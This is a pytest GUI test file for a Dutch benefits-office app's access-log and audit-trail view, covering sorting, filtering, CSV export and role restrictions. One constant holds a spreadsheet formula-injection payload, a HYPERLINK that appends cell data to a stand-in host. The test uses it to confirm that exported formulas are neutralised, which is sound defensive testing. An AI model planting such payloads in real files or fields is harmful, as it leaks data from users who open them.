"""The Inzagelog view: access per citizen and per staff member, the audit trail with before → after, sorting,
filtering and CSV export — only for supervisors and kwaliteitsmedewerkers. Always the real store."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from PySide6.QtCore import QPoint, Qt
from PySide6.QtWidgets import QApplication

from models.domain import InzageReden
from models.store.contacten import ContactRepository
from models.store.interfaces_inzage import Periode
from models.store.klantbeeld import KlantbeeldRepository
from models.store.opslag import Opslag
from tests.ui.huishoudens import BSN, Huishouden
from ui.qtmodels.inzage import AuditModel, InzageModel
from ui.views import inzage_view
from ui.views.inzage_view import AUDITTRAIL, PER_MEDEWERKER, InzageView

pytestmark = pytest.mark.gui

ALT = Qt.KeyboardModifier.AltModifier
KWAADAARDIG = '=HYPERLINK("http://example.invalid/?"&A1;"klik")'


@pytest.fixture
def inzages(huishouden: Huishouden, sqlite_opslag: Opslag) -> Huishouden:
    """Three looks at Fatima's data by three colleagues, and a corrected contact in her audit trail."""
    klantbeelden = KlantbeeldRepository(sqlite_opslag)
    klantbeelden.laad(huishouden.balie, huishouden.burger_id, reden=InzageReden.BALIEBEZOEK)
    klantbeelden.laad(huishouden.collega, huishouden.burger_id, reden=InzageReden.OVERIG, toelichting=KWAADAARDIG)
    klantbeelden.laad(huishouden.begeleider, huishouden.burger_id, reden=InzageReden.EIGEN_CASELOAD)
    klantbeelden.laad(huishouden.collega, huishouden.partner_id, reden=InzageReden.TELEFOONGESPREK)
    ContactRepository(sqlite_opslag).wijzig(
        huishouden.begeleider,
        huishouden.contact_id,
        1,
        onderwerp="Intake persoonlijke begeleiding (aangevuld)",
        samenvatting="Plan van aanpak besproken.",
        afspraken="Budgetcoach gebeld",
    )
    return huishouden


@pytest.fixture
def venster(maak_venster, inzages: Huishouden):
    return maak_venster(inzages.supervisor)


@pytest.fixture
def view(qtbot, venster, inzages: Huishouden) -> InzageView:
    assert "inzagelog" in venster.rail.sleutels
    nummer = venster.rail.sleutels.index("inzagelog") + 1
    qtbot.keyClick(QApplication.focusWidget(), getattr(Qt.Key, f"Key_{nummer}"), ALT)
    assert venster.huidige_view == "inzagelog"
    assert venster.windowTitle() == "Inzagelog – Werkplek Toeslagen"
    assert venster.inzagelog is not None
    qtbot.waitUntil(lambda: venster.inzagelog.medewerker_combo.count() > 0)  # staff list loaded on first show
    return venster.inzagelog


def _klik_kop(qtbot, tabel, kolom: int) -> None:
    """Click a column header, as the user does to sort."""
    kop = tabel.horizontalHeader()
    x = kop.sectionViewportPosition(kolom) + kop.sectionSize(kolom) // 2
    qtbot.mouseClick(kop.viewport(), Qt.MouseButton.LeftButton, pos=QPoint(x, kop.height() // 2))


def _kolom(model, kolom: int) -> list[str]:
    return [model.index(r, kolom).data() for r in range(model.rowCount())]


def test_inzage_per_burger_sorteren_filteren(qtbot, view: InzageView, inzages: Huishouden, qtmodeltester) -> None:
    assert view.burger_bsn_edit.hasFocus()
    qtbot.keyClicks(view.burger_bsn_edit, "1234 56 782")
    qtbot.keyClick(view.burger_bsn_edit, Qt.Key.Key_Return)
    qtbot.waitUntil(lambda: view.burger.model.rowCount() > 0 and not view.taken.bezig)
    qtmodeltester.check(view.burger.model)
    assert view.burger.label.text().startswith("Fatima El Amrani (BSN *****6782): 4 inzages van ")
    proxy = view.burger.proxy
    # newest first: the supervisor's own question, then the three colleagues
    assert _kolom(proxy, InzageModel.REDEN) == [
        "Kwaliteitscontrole",
        "Burger in mijn caseload",
        "Anders (toelichting verplicht)",
        "Burger aan de balie",
    ]
    assert _kolom(proxy, InzageModel.WAAR)[0] == "Inzagelog opgevraagd"
    assert view.burger.tabel.isColumnHidden(InzageModel.BSN) and view.burger.tabel.isColumnHidden(InzageModel.BURGER)
    # sortable: by staff member (header click)
    _klik_kop(qtbot, view.burger.tabel, InzageModel.MEDEWERKER)
    namen = _kolom(proxy, InzageModel.MEDEWERKER)
    assert namen == sorted(namen, key=str.casefold)
    # free-text filter
    qtbot.keyClicks(view.burger.filter_edit, "yilmaz")
    assert proxy.rowCount() == 1 and proxy.rij(0).toelichting == KWAADAARDIG


def test_export_naar_csv_zoals_getoond(
    qtbot, view: InzageView, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    view.burger_bsn_edit.setText(BSN)
    view.toon_per_burger()
    qtbot.waitUntil(lambda: view.burger.model.rowCount() == 4)
    _klik_kop(qtbot, view.burger.tabel, InzageModel.MOMENT)  # oldest first
    doel = tmp_path / "export.csv"
    gevraagd: list[str] = []
    monkeypatch.setattr(inzage_view, "vraag_exportpad", lambda _p, voorstel: gevraagd.append(voorstel) or doel)
    view.burger.export_knop.click()
    assert gevraagd[0].startswith("inzagelog-burger-") and gevraagd[0].endswith(".csv")
    ruw = doel.read_bytes()
    assert ruw.startswith(b"\xef\xbb\xbf")  # a BOM: spreadsheet programs read the UTF-8 correctly
    rijen = list(csv.reader(doel.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    assert rijen[0] == ["Moment", "Medewerker", "Rol", "Reden", "Toelichting", "Waar"]
    assert [r[3] for r in rijen[1:]] == [
        "Burger aan de balie",
        "Anders (toelichting verplicht)",
        "Burger in mijn caseload",
        "Kwaliteitscontrole",
    ]
    assert rijen[2][4] == "'" + KWAADAARDIG  # a formula is neutralised, not run
    assert "4 regels geëxporteerd" in view.melding.tekst


def test_inzage_per_medewerker(qtbot, view: InzageView, inzages: Huishouden) -> None:
    view.tabs.setCurrentIndex(PER_MEDEWERKER)
    assert view.medewerker_combo.hasFocus()
    view.toon_per_medewerker()  # nobody chosen yet
    assert view.medewerker_melding.tekst == "Kies een medewerker uit de lijst."
    assert view.kies_medewerker(inzages.collega.id)
    qtbot.mouseClick(view.medewerker_knop, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: view.per_medewerker.model.rowCount() == 2)
    proxy = view.per_medewerker.proxy
    assert _kolom(proxy, InzageModel.BURGER) == ["Youssef El Amrani", "Fatima El Amrani"]
    assert _kolom(proxy, InzageModel.BSN)[1] == "*****6782"
    assert view.per_medewerker.label.text().startswith("A. Yilmaz (")


def test_audittrail_met_voor_en_na(qtbot, view: InzageView, inzages: Huishouden, qtmodeltester) -> None:
    view.tabs.setCurrentIndex(AUDITTRAIL)
    view.audit_bsn_edit.setText(BSN)
    qtbot.keyClick(view.audit_bsn_edit, Qt.Key.Key_Return)
    qtbot.waitUntil(lambda: view.audit.model.rowCount() > 0 and not view.taken.bezig)
    qtmodeltester.check(view.audit.model)
    regel = view.audit.tabel.huidige_rij()  # the newest change is chosen
    assert regel.actie == "contact gewijzigd" and regel.medewerker == "J. de Vries"
    qtmodeltester.check(view.details_model)
    details = {
        view.details_model.index(r, 0).data(): (
            view.details_model.index(r, 1).data(),
            view.details_model.index(r, 2).data(),
        )
        for r in range(view.details_model.rowCount())
    }
    assert details["onderwerp"][1] == "Intake persoonlijke begeleiding (aangevuld)"
    assert details["afspraken"][1] == "Budgetcoach gebeld"
    assert "contact gewijzigd door J. de Vries" in view.details_label.text()
    samenvatting = view.audit.proxy.index(0, AuditModel.WIJZIGINGEN).data()
    assert samenvatting.startswith("onderwerp; ") and "afspraken: Budgetcoach gebeld" in samenvatting


def test_ongeldig_bsn_en_periode_blijven_bij_het_veld(qtbot, view: InzageView) -> None:
    view.burger_bsn_edit.setText("123456789")
    view.toon_per_burger()
    assert "elfproef" in view.burger_bsn_melding.tekst
    assert view.burger.model.rowCount() == 0 and not view.taken.bezig
    view.burger_bsn_edit.setText("111222333")
    view.toon_per_burger()
    qtbot.waitUntil(lambda: view.burger_bsn_melding.tekst != "" and not view.taken.bezig)
    assert view.burger_bsn_melding.tekst == "Er staat geen burger met dit BSN in de opslag."
    view.burger_bsn_edit.setText(BSN)
    view.van_edit.setDate(view.tot_edit.date().addDays(1))
    view.toon_per_burger()
    assert view.periode_melding.tekst == "De einddatum ligt vóór de begindatum."


@pytest.mark.parametrize("wie", ["balie", "begeleider"])
def test_andere_rollen_zien_geen_inzagelog(maak_venster, huishouden: Huishouden, wie: str) -> None:
    venster = maak_venster(getattr(huishouden, wie))
    assert "inzagelog" not in venster.rail.sleutels
    assert venster.inzagelog is None


def test_de_opslag_weigert_ook_als_de_view_toch_wordt_gemaakt(
    qtbot, diensten, runner, kleuren, huishouden: Huishouden
) -> None:
    """Hiding the rail entry is not the protection: a view built anyway gets a refusal from the store."""
    view = InzageView(diensten.inzage, huishouden.begeleider, runner, kleuren)
    qtbot.addWidget(view)
    view.show()
    view.burger_bsn_edit.setText(BSN)
    view.toon_per_burger()
    qtbot.waitUntil(view.melding.isVisible)
    assert view.melding.tekst == ("Uw rol (persoonlijk begeleider) mag niet: de audittrail en het inzagelog bekijken.")
    assert not view.melding.actie_knop.isVisible()
    assert view.burger.model.rowCount() == 0
    assert Periode.laatste_dagen(30).tot == view.tot_edit.date().toPython()
